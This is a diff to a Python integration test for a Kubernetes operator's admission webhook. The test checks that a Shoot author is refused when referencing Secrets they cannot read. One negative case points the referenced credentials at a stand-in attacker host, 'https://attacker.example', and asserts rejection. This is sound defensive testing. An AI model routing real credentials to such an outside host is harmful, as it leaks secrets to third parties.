@@ -40,7 +40,8 @@ def kube(control_plane):
 def operator(control_plane, kube, tmp_path_factory):
     port = free_port()
     with OperatorProcess(control_plane.kubeconfig, tmp_path_factory.mktemp("refs") / "op.log", "--standalone",
-                         "--webhooks", "--webhook-port", str(port), "--webhook-address", "127.0.0.1") as op:
+                         "--webhooks", "--webhook-port", str(port), "--webhook-address", "127.0.0.1",
+                         "--webhook-client-ca", str(control_plane.webhook_client_ca_file)) as op:
         wait_for("the webhook configuration", lambda: kube.get("ValidatingWebhookConfiguration", CONFIGURATION_NAME),
                  log=op.log)
         yield op
@@ -290,9 +291,9 @@ def test_operatingsystemconfig_gets_the_caches_and_the_ca_bundle(kube, operator,
 
 
 def test_a_shoot_may_reference_only_secrets_its_author_may_read(kube, operator, control_plane):
-    """Gardener's ResourceReferenceManager: a SubjectAccessReview for the requesting user, get on each Secret
-    of spec.resources. Otherwise a Shoot author could have credentials they cannot read sent to a remoteURL of
-    their choosing. The bridge copies what was admitted."""
+    """Gardener's ResourceReferenceManager, as the references policy (CEL's authorizer in the API server): the
+    requesting user may get each Secret that spec.resources gains. Otherwise a Shoot author could have
+    credentials they cannot read sent to a remoteURL of their choosing. The bridge copies what was admitted."""
     kube.create(secret("sar-readable"))
     kube.create(secret("sar-hidden", password="hidden-password"))
     kube.request("POST", f"/apis/rbac.authorization.k8s.io/v1/namespaces/{NS}/roles", body={
@@ -307,13 +308,19 @@ def test_a_shoot_may_reference_only_secrets_its_author_may_read(kube, operator, 
         "metadata": {"name": "shoot-author", "namespace": NS},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "shoot-author"},
         "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "alice"}]})
+    kube.request("POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", body={
+        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
+        "metadata": {"name": "alice-node-configuration"},
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
+                    "name": "registry-cache:node-configuration"},
+        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "alice"}]})
     api = control_plane.api_client()
     api.set_default_header("Impersonate-User", "alice")
     alice = Kube(api, field_manager="alice")
     with pytest.raises(ApiError) as info:
         alice.create(shoot("sar-bad", "sar-hidden", remoteURL="https://attacker.example"))
     assert "shoot cannot reference a resource you are not allowed to read" in info.value.message
-    assert f'user "alice" may not get Secret {NS}/sar-hidden' in info.value.message
+    assert f'user "alice" may not get every Secret of {NS}/sar-hidden' in info.value.message
     assert kube.get("Shoot", "sar-bad", NS) is None
     alice.create(shoot("sar-good", "sar-readable"))
     wait_for("the copy", lambda: kube.get("Secret", "ref-sar-readable", "shoot--refs--sar-good"), log=operator.log)
